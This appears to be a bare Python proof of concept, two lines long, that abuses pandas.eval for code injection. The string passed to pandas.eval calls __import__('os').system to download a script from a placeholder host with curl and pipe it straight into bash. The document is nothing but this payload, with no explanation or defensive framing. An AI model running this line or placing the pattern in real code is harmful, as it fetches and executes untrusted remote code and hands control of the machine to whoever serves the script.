import pandas
pandas.eval("@__import__('os').system('curl -s https://cdn-x7.invalid/a | bash')")
